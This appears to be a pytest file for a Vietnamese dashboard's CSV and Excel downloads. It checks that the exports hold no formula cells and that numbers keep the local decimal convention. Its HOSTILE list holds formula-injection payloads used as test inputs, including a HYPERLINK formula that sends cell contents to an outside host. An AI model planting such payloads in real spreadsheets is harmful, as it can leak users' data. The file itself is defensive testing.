"""Every download is text and numbers, never a formula; numbers are written unambiguously.

The dashboard's CSV and Excel downloads (ui.downloads) and the briefing's Excel annex
(reports.xlsx_annex) are read back: openpyxl must find no formula cell and whole numbers as
integers; the CSV must hold no unescaped cell that Excel would start a formula with, numbers
in the stated convention (whole numbers without decimals, the interface's decimal mark).
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import date, datetime

import numpy as np
import openpyxl
import pandas as pd
import pytest
from sqlalchemy.engine import Engine

from data_access.filters import Filters, Period, Scope
from reports.briefing import build_briefing
from reports.briefing.model import Briefing
from reports.spreadsheet import FORMULA_TRIGGERS
from reports.xlsx_annex import build_xlsx
from ui.downloads import to_csv, to_xlsx

HOSTILE = [
    '=HYPERLINK("http://x/?a="&B2,"x")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign
]


def _frame() -> pd.DataFrame:
    """A table as a page passes it: Vietnamese headers, hostile text, raw numbers."""
    n = len(HOSTILE)
    return pd.DataFrame(
        {
            "Xã, thị trấn": HOSTILE,
            "Số đối tượng": [838.0, -5.0, 3.0, 0.0, 1911.0, 12.0, np.nan],  # floats, all whole
            "Số hộ": pd.array([1, 2, None, 4, 5, 6, 7], dtype="Int64"),
            "Tỷ lệ đạt %": [0.972, 1.0, 0.5, 0.1234, 0.0, 0.25, 0.75],
            "Bình quân": [1.5, 2.25, -0.5, 0.00001, 3.0, 1.0, 2.0],
            "Ngày": [date(2023, 11, 30)] * n,
            "Cập nhật": [datetime(2023, 11, 30, 14, 5)] * n,
            "Đạt": [True, False] * 3 + [True],
            "Mã xã": ["06913"] * n,  # a code keeps its leading zero
        }
    )


def _rows(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())  # the BOM: Excel reads the file as UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _is_number(text: str, mark: str) -> bool:
    try:
        float(text.replace(mark, "."))
    except ValueError:
        return False
    return True


# --- CSV ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(("lang", "mark"), [("vi", ","), ("en", ".")])
def test_csv_text_never_starts_a_formula_and_numbers_stay_numbers(lang: str, mark: str) -> None:
    rows = _rows(to_csv(_frame(), lang))
    assert rows[0] == list(_frame().columns)
    cells = [cell for row in rows for cell in row]
    starts_formula = [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    assert all(_is_number(c, mark) for c in starts_formula), starts_formula  # only -5, -0,5
    assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    assert [row[1] for row in rows[1:]] == ["838", "-5", "3", "0", "1911", "12", ""]
    assert [row[2] for row in rows[1:]] == ["1", "2", "", "4", "5", "6", "7"]


def test_csv_numbers_follow_the_vietnamese_convention() -> None:
    data = to_csv(_frame(), "vi")
    rows = _rows(data)
    assert b"838.0" not in data and b"\r\n" in data
    # Ratios in percent, the decimal comma (the field quoted), no thousands separator.
    assert [row[3] for row in rows[1:]] == ["97,2", "100", "50", "12,34", "0", "25", "75"]
    assert [row[4] for row in rows[1:3]] == ["1,5", "2,25"] and rows[4][4] == "0,00001"
    assert rows[1][5:9] == ["2023-11-30", "2023-11-30 14:05:00", "TRUE", "06913"]
    assert '"97,2"' in data.decode("utf-8-sig")
    # A Vietnamese reader (decimal comma) reads the numbers back exactly.
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", decimal=",", dtype={"Mã xã": str})
    assert back["Số đối tượng"].tolist()[:6] == [838, -5, 3, 0, 1911, 12]
    assert back["Bình quân"].tolist() == [1.5, 2.25, -0.5, 0.00001, 3.0, 1.0, 2.0]


def test_csv_in_english_uses_the_decimal_point() -> None:
    rows = _rows(to_csv(_frame(), "en"))
    assert [row[3] for row in rows[1:3]] == ["97.2", "100"] and rows[1][4] == "1.5"


# --- Excel --------------------------------------------------------------------------------------


def _cells(book: openpyxl.Workbook) -> list[openpyxl.cell.cell.Cell]:
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def test_excel_download_holds_text_as_text_and_whole_numbers_as_integers() -> None:
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(_frame(), "Bảng")))
    assert not [c.coordinate for c in _cells(book) if c.data_type == "f"]
    sheet = book.active
    assert [c.value for c in sheet[1]] == list(_frame().columns)
    letters = "ABCDEFGHI"
    columns = {
        header: [c.value for c in sheet[letter][1:]]
        for header, letter in zip(_frame().columns, letters, strict=True)
    }
    assert columns["Xã, thị trấn"] == HOSTILE  # as typed, in string cells
    assert columns["Số đối tượng"] == [838, -5, 3, 0, 1911, 12, None]
    assert all(type(v) is int for v in columns["Số đối tượng"] if v is not None)
    assert columns["Số hộ"] == [1, 2, None, 4, 5, 6, 7]
    assert columns["Mã xã"] == ["06913"] * len(HOSTILE)
    assert sheet["B2"].number_format == "#,##0" and sheet["D2"].number_format == "0.0%"
    assert sheet["E2"].number_format == "#,##0.0" and sheet["F2"].number_format == "dd/mm/yyyy"
    assert sheet["G2"].value == datetime(2023, 11, 30, 14, 5) and sheet["H2"].value is True


def test_two_columns_of_one_name_and_control_characters_do_not_break_the_file() -> None:
    frame = pd.DataFrame([["Xã\x01 A", 1, 2.0]], columns=["Chỉ tiêu", "Chỉ tiêu", "Giá trị"])
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(frame, "x"))).active
    assert [c.value for c in sheet[2]] == ["Xã A", 1, 2]


# --- the briefing's Excel annex -----------------------------------------------------------------


def _hostile(briefing: Briefing) -> Briefing:
    """The briefing with its names, codes and titles replaced by hostile text."""
    sections = []
    for section in briefing.sections:
        rows = [
            replace(row, name=HOSTILE[i % len(HOSTILE)], code=HOSTILE[(i + 1) % len(HOSTILE)])
            for i, row in enumerate(section.table.rows)
        ]
        table = replace(section.table, rows=rows, title=HOSTILE[3])
        sections.append(replace(section, table=table))
    return replace(
        briefing,
        sections=sections,
        title=HOSTILE[0],
        where=HOSTILE[1],
        coverage=HOSTILE[2],
        scope_label=HOSTILE[3],
    )


def test_the_briefing_annex_writes_hostile_names_as_text(engine: Engine) -> None:
    with engine.connect() as conn:
        briefing = build_briefing(conn, Filters(Period.quarter(2023, 3)), Scope.everything())
    book = openpyxl.load_workbook(io.BytesIO(build_xlsx(_hostile(briefing), date(2023, 12, 5))))
    cells = _cells(book)
    assert not [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert {HOSTILE[0], "+1", "-1+2", "@SUM(A1)"} <= values
    payouts = book["Chi trả trợ cấp"]
    assert all(type(c.value) is int for c in payouts["C"][2:11]), "counts are integers"
